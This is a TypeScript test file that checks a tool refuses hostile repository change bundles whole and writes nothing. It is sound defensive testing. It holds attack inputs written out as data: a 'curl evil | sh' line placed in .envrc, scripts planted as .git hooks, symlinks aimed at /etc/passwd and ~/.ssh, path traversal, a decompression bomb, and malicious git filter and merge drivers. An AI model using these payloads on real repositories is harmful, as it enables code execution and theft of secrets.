import { createHash } from "node:crypto";
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { deflateSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ChangesBundle, encodeChanges } from "../../shared/changes/bundle.js";
import { captureChanges } from "../../client/lib/changes/capture.js";
import { createRunContext } from "../../client/lib/run-context.js";
import { type ChangesFacts, sourceChanges } from "../../client/ops/orient/changes.js";
import { encodeBase85Lines } from "../../shared/changes/git-binary.js";
import { GIT_ENV, git, makeRepo, tempDir } from "./git-repo.js";

// Hostile changes bundles, each built from a legitimate one in the documented format (a bundle
// captured from a real checkout, then edited as a sender could edit it), applied the way resume
// --apply-changes applies them: refused whole, with nothing written and no program run.

let root = "";
let count = 0;
let legit: ChangesBundle;
let sender = "";
const home = () => join(root, "home");
const env = () => ({ PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home(), ...GIT_ENV });

beforeAll(async () => {
  root = tempDir("handoff-changes-apply-");
  mkdirSync(home());
  sender = makeRepo(join(root, "sender"), { "README.md": "# Uploader\n\nRetries: none.\n\nOwner: team.\n", "src/retry.ts": "export const tries = 3;\n", "logo.bin": "\u0000\u0001seed\u0000" });
  writeFileSync(join(sender, "README.md"), "# Uploader\n\nRetries: exponential backoff.\n\nOwner: team.\n");
  writeFileSync(join(sender, "logo.bin"), Buffer.from([0, 1, 2, 3, 255, 0, 7]));
  mkdirSync(join(sender, "notes"));
  writeFileSync(join(sender, "notes", "plan.txt"), "1. backoff test\n");
  // logo.bin is binary data the secret scan cannot read: allowed, as --allow-unscanned would.
  legit = await captureChanges(sender, env(), undefined, { allowUnscanned: true });
});

afterAll(() => {
  if (root) rmSync(root, { recursive: true, force: true });
});

/** A fresh receiver: a clone of the sender at its commit (without the sender's uncommitted work). */
function receiver(): string {
  const dir = join(root, `receiver-${++count}`);
  git(root, "clone", "-q", sender, dir);
  return dir;
}

/** The legitimate bundle, copied, for a test to edit. */
function copy(): ChangesBundle {
  return { version: 2, manifest: structuredClone(legit.manifest), patch: legit.patch.slice(), files: legit.files.map((f) => f.slice()) };
}

/** What resume --apply-changes does with `bundle`: encoded as it travels, decoded and applied in `repo`. */
async function apply(bundle: ChangesBundle | Uint8Array, repo: string, options: { dryRun?: boolean; allowFlagged?: boolean } = {}): Promise<ChangesFacts> {
  const bytes = bundle instanceof Uint8Array ? bundle : encodeChanges(bundle);
  const ctx = createRunContext({ cwd: repo, env: env(), home: home() });
  return sourceChanges({ kind: "file", path: join(repo, "handoff.md"), label: "handoff.md" }, { text: "# x\n", changes: bytes }, "handoff resume handoff.md", { apply: true, ...options }, [], ctx);
}

/** Every file of the checkout and its index and hooks: what "nothing was written" compares. */
function snapshot(repo: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const full = join(dir, name);
      const rel = relative(repo, full);
      if (rel === ".git/objects" || rel === ".git/logs") continue;
      const stat = lstatSync(full);
      if (stat.isSymbolicLink()) out[rel] = `link:${readlinkSync(full)}`;
      else if (stat.isDirectory()) walk(full);
      else out[rel] = `${(stat.mode & 0o777).toString(8)}:${createHash("sha256").update(readFileSync(full)).digest("hex")}`;
    }
  };
  walk(repo);
  return out;
}

/** A patch section git diff would write for a new text file (mode and content as given). */
function newTextSection(path: string, mode: string, content: string, noNewline = false): string {
  const lines = content.split("\n");
  if (!noNewline) lines.pop();
  const hunk = lines.map((l) => `+${l}`).join("\n");
  return `diff --git a/${path} b/${path}\nnew file mode ${mode}\nindex 0000000..1111111\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1${lines.length === 1 ? "" : `,${lines.length}`} @@\n${hunk}\n${noNewline ? "\\ No newline at end of file\n" : ""}`;
}

/** The bundle with `section` appended to its patch, listed in the manifest when `listed` says how. */
function withSection(section: string, listed?: { path: string; from_mode: "100644" | "100755" | "120000" | null; to_mode: "100644" | "100755" | "120000" | null; binary?: boolean }): ChangesBundle {
  const bundle = copy();
  const extra = new TextEncoder().encode(section);
  const patch = new Uint8Array(bundle.patch.length + extra.length);
  patch.set(bundle.patch);
  patch.set(extra, bundle.patch.length);
  bundle.patch = patch;
  bundle.manifest.patch_length = patch.length;
  if (listed) bundle.manifest.tracked.push({ path: listed.path, bytes: extra.length, binary: listed.binary ?? false, from_mode: listed.from_mode, to_mode: listed.to_mode });
  return bundle;
}

const DOTGIT = [
  ".git",
  ".GIT",
  ".Git",
  ".git.",
  ".git ",
  ".git. .",
  "GIT~1",
  "git~1",
  ".g\u200cit",
  ".gi\u200dt",
  "\u200e.git",
  ".git\ufeff",
  ".\u202agit",
  ".gi\u2060t",
  ".g\u206fit",
  ".git::$INDEX_ALLOCATION",
];

describe("the legitimate bundle", () => {
  it("applies whole and staged: the receiver's tree becomes the sender's", async () => {
    const repo = receiver();
    const facts = await apply(copy(), repo);
    expect(facts.changes_not_applied).toBeUndefined();
    expect(facts.changes_applied).toMatchObject({ mode: "at_base", untracked: ["notes/plan.txt"], flagged: [] });
    for (const path of ["README.md", "logo.bin", "notes/plan.txt"]) expect(readFileSync(join(repo, path))).toEqual(readFileSync(join(sender, path)));
    expect(git(repo, "status", "--porcelain").split("\n").sort()).toEqual(["A  notes/plan.txt", "M  README.md", "M  logo.bin"]);
  });

  it("--dry-run lists every file with its change, mode, size and flags, and writes nothing", async () => {
    const repo = receiver();
    const before = snapshot(repo);
    const facts = await apply(copy(), repo, { dryRun: true });
    expect(facts.changes_preview).toMatchObject({ mode: "at_base", ready: true, flagged: [] });
    expect(facts.changes_preview?.files.map((f) => [f.path, f.change, f.from_mode, f.to_mode, f.untracked])).toEqual([
      ["README.md", "modified", "100644", "100644", false],
      ["logo.bin", "modified", "100644", "100644", false],
      ["notes/plan.txt", "added", null, "100644", true],
    ]);
    expect(facts.changes_preview?.files.every((f) => f.bytes > 0)).toBe(true);
    expect(snapshot(repo)).toEqual(before);
  });
});

describe("hostile bundles are refused whole, nothing written", () => {
  async function refused(bundle: ChangesBundle | Uint8Array, why: RegExp, repo = receiver()): Promise<ChangesFacts> {
    const before = snapshot(repo);
    const facts = await apply(bundle, repo, { allowFlagged: true });
    expect(facts.changes_applied).toBeUndefined();
    expect(facts.changes_not_applied?.message).toMatch(why);
    expect(facts.changes_not_applied?.message).toMatch(/nothing was applied$/);
    expect(snapshot(repo)).toEqual(before);
    return facts;
  }

  it.each(DOTGIT)("an untracked file under %j/hooks", async (spelling) => {
    const bundle = copy();
    bundle.manifest.files[0]!.path = `${spelling}/hooks/pre-commit`;
    bundle.manifest.files[0]!.mode = "100755";
    await refused(bundle, /malformed: manifest files\.0\.path: must be a plain repository-relative path/);
  });

  it.each(DOTGIT)("a patch section writing %j/hooks/post-index-change", async (spelling) => {
    const path = `${spelling}/hooks/post-index-change`;
    await refused(withSection(newTextSection(path, "100755", "#!/bin/sh\ntouch pwned\n")), /spelling of \.git/);
  });

  it("a file the patch adds that the manifest does not list", async () => {
    const facts = await refused(withSection(newTextSection(".envrc", "100644", "curl evil | sh\n")), /refused at \.envrc: the patch changes it, and the manifest does not list it/);
    expect(facts.changes_not_applied?.path).toBe(".envrc");
  });

  it("a file the manifest lists that the patch does not change", async () => {
    const bundle = copy();
    bundle.manifest.tracked.push({ path: "src/retry.ts", bytes: 0, binary: false, from_mode: "100644", to_mode: "100644" });
    await refused(bundle, /refused at src\/retry\.ts: the manifest lists it, and the patch does not change it/);
  });

  it("a deletion hidden after the listed sections", async () => {
    const section = "diff --git a/src/retry.ts b/src/retry.ts\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/src/retry.ts\n+++ /dev/null\n@@ -1 +0,0 @@\n-export const tries = 3;\n";
    await refused(withSection(section), /refused at src\/retry\.ts: the patch changes it, and the manifest does not list it/);
  });

  it("junk git apply would read as a second, traditional patch", async () => {
    const bundle = copy();
    const junk = new TextEncoder().encode("--- a/README.md\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+touch pwned\n");
    const patch = new Uint8Array(bundle.patch.length + junk.length);
    patch.set(bundle.patch);
    patch.set(junk, bundle.patch.length);
    bundle.patch = patch;
    bundle.manifest.patch_length = patch.length;
    await refused(bundle, /a line that belongs to no hunk/);
  });

  it.each([
    ["/etc/passwd", /points to an absolute path/],
    ["../../../../../home/user/.ssh", /points above the working tree/],
    ["~/.ssh", /home folder/],
    [".git/hooks", /into a \.git folder/],
  ])("a symbolic link to %s", async (target, why) => {
    await refused(withSection(newTextSection("docs/key", "120000", target, true), { path: "docs/key", from_mode: null, to_mode: "120000" }), why);
  });

  it.each([
    ["/etc/cron.d/x", /it is absolute/],
    ["../outside.txt", /'\.\.' segment/],
    ["a/../../outside.txt", /'\.\.' segment/],
    ["a\\..\\x", /backslash/],
  ])("a patch path %j", async (path, why) => {
    await refused(withSection(newTextSection(path, "100644", "x\n")), why);
  });

  it("a mode change to executable the manifest does not state", async () => {
    const bundle = copy();
    const text = new TextDecoder("latin1")
      .decode(bundle.patch)
      .replace(/^(diff --git a\/README\.md b\/README\.md\n)index ([0-9a-f]+)\.\.([0-9a-f]+) 100644\n/m, "$1old mode 100644\nnew mode 100755\nindex $2..$3\n");
    const patch = Uint8Array.from(text, (c) => c.charCodeAt(0));
    const grown = patch.length - bundle.patch.length;
    bundle.patch = patch;
    bundle.manifest.patch_length = patch.length;
    bundle.manifest.tracked[0]!.bytes += grown;
    await refused(bundle, /refused at README\.md: the patch gives it mode 100644 -> 100755, the manifest 100644/);
  });

  it("a format-1 bundle (no modes stated) that makes a file executable", async () => {
    const section = newTextSection("tools/run.sh", "100755", "#!/bin/sh\necho hi\n");
    const bundle = withSection(section, { path: "tools/run.sh", from_mode: null, to_mode: "100755" });
    bundle.version = 1;
    for (const t of bundle.manifest.tracked) {
      delete t.from_mode;
      delete t.to_mode;
    }
    await refused(bundle, /a format-1 bundle states no modes, and the patch gives it mode \(none\) -> 100755/);
  });

  it("a 64 MiB expansion from a small bundle", async () => {
    const size = 64 * 1024 * 1024;
    const deflated = deflateSync(Buffer.alloc(size), { level: 9 });
    expect(deflated.length).toBeLessThan(128 * 1024);
    const section = [
      "diff --git a/blob.bin b/blob.bin",
      "new file mode 100644",
      `index ${"0".repeat(40)}..${"1".repeat(40)}`,
      "GIT binary patch",
      `literal ${size}`,
      ...encodeBase85Lines(deflated),
      "",
      "",
    ].join("\n");
    const bundle = withSection(section, { path: "blob.bin", from_mode: null, to_mode: "100644", binary: true });
    await refused(bundle, /refused at blob\.bin: a binary hunk that inflates to 67108864 bytes, over the 32 MiB/);
    expect(existsSync(join(root, "blob.bin"))).toBe(false);
  });

  it("a path below a folder that is another repository here, or through a symbolic link", async () => {
    const repo = receiver();
    mkdirSync(join(repo, "vendor", "lib"), { recursive: true });
    git(join(repo, "vendor", "lib"), "init", "-q");
    const nested = copy();
    nested.manifest.files[0]!.path = "vendor/lib/hooks.txt";
    await refused(nested, /vendor\/lib\/hooks\.txt lies inside another repository \(vendor\/lib has its own \.git\)/, repo);

    const other = receiver();
    symlinkSync(root, join(other, "out"));
    const through = copy();
    through.manifest.files[0]!.path = "out/planted.txt";
    await refused(through, /out\/planted\.txt would be written through the symbolic link out/, other);
    expect(existsSync(join(root, "planted.txt"))).toBe(false);
  });
});

describe("what tools obey or run needs --allow-flagged", () => {
  it("an executable and a dotfile are flagged: previewed, refused without the flag, applied with it", async () => {
    const bundle = copy();
    bundle.manifest.files.push({ path: ".envrc", mode: "100644", length: 12 }, { path: "tools/run.sh", mode: "100755", length: 18 });
    bundle.files.push(new TextEncoder().encode("export A=1\n\n"), new TextEncoder().encode("#!/bin/sh\necho hi\n"));
    const repo = receiver();
    const preview = await apply(bundle, repo, { dryRun: true });
    expect(preview.changes_preview?.flagged).toEqual([".envrc", "tools/run.sh"]);
    expect(preview.changes_preview?.files.find((f) => f.path === ".envrc")?.flags).toEqual(["direnv runs it when a shell enters the folder"]);
    expect(preview.changes_preview?.files.find((f) => f.path === "tools/run.sh")?.flags).toEqual(["executable"]);

    const before = snapshot(repo);
    const plain = await apply(bundle, repo);
    expect(plain.changes_not_applied?.message).toMatch(/files that tools obey or run \(\.envrc, tools\/run\.sh\); nothing was applied$/);
    expect(plain.changes_not_applied?.hint).toMatch(/--allow-flagged/);
    expect(snapshot(repo)).toEqual(before);

    const allowed = await apply(bundle, repo, { allowFlagged: true });
    expect(allowed.changes_applied?.untracked).toEqual(["notes/plan.txt", ".envrc", "tools/run.sh"]);
    expect(statSync(join(repo, "tools", "run.sh")).mode & 0o111).not.toBe(0);
    expect(readFileSync(join(repo, ".envrc"), "utf8")).toBe("export A=1\n\n");
  });
});

describe("applying never runs what the receiving repository configures", () => {
  /** A shell command that leaves `marker` behind if it ever runs. */
  const touch = (marker: string) => `sh -c 'echo ran >> ${marker}; cat'`;

  it("filter drivers, fsmonitor and the post-index-change hook stay off; the bundle applies", async () => {
    const repo = receiver();
    const marker = join(root, `marker-${count}`);
    git(repo, "config", "filter.evil.clean", touch(marker));
    git(repo, "config", "filter.evil.smudge", touch(marker));
    git(repo, "config", "filter.evil.required", "true");
    git(repo, "config", "core.fsmonitor", `echo ran >> ${marker}`);
    writeFileSync(join(repo, ".git", "info", "attributes"), "* filter=evil\n");
    const hook = join(repo, ".git", "hooks", "post-index-change");
    writeFileSync(hook, `#!/bin/sh\necho ran >> ${marker}\n`);
    chmodSync(hook, 0o755);
    const facts = await apply(copy(), repo);
    expect(facts.changes_not_applied).toBeUndefined();
    expect(facts.changes_applied?.mode).toBe("at_base");
    expect(readFileSync(join(repo, "README.md"), "utf8")).toBe(readFileSync(join(sender, "README.md"), "utf8"));
    expect(existsSync(marker)).toBe(false);
  });

  it("a merge driver a three-way apply would run: refused, nothing written, the driver never ran", async () => {
    const repo = receiver();
    const marker = join(root, `marker-${count}`);
    // A descendant that changes README.md elsewhere, so the apply would need a real merge.
    writeFileSync(join(repo, "README.md"), "# Uploader\n\nRetries: none.\n\nOwner: platform.\n");
    git(repo, "commit", "-qam", "b: owner");
    git(repo, "config", "merge.evil.driver", `echo ran >> ${marker}; false`);
    writeFileSync(join(repo, ".git", "info", "attributes"), "* merge=evil\n");
    const before = snapshot(repo);
    const facts = await apply(copy(), repo);
    expect(facts.changes_not_applied?.message).toMatch(/would run the merge driver 'evil' this repository configures for README\.md/);
    expect(snapshot(repo)).toEqual(before);
    expect(existsSync(marker)).toBe(false);
  });
});
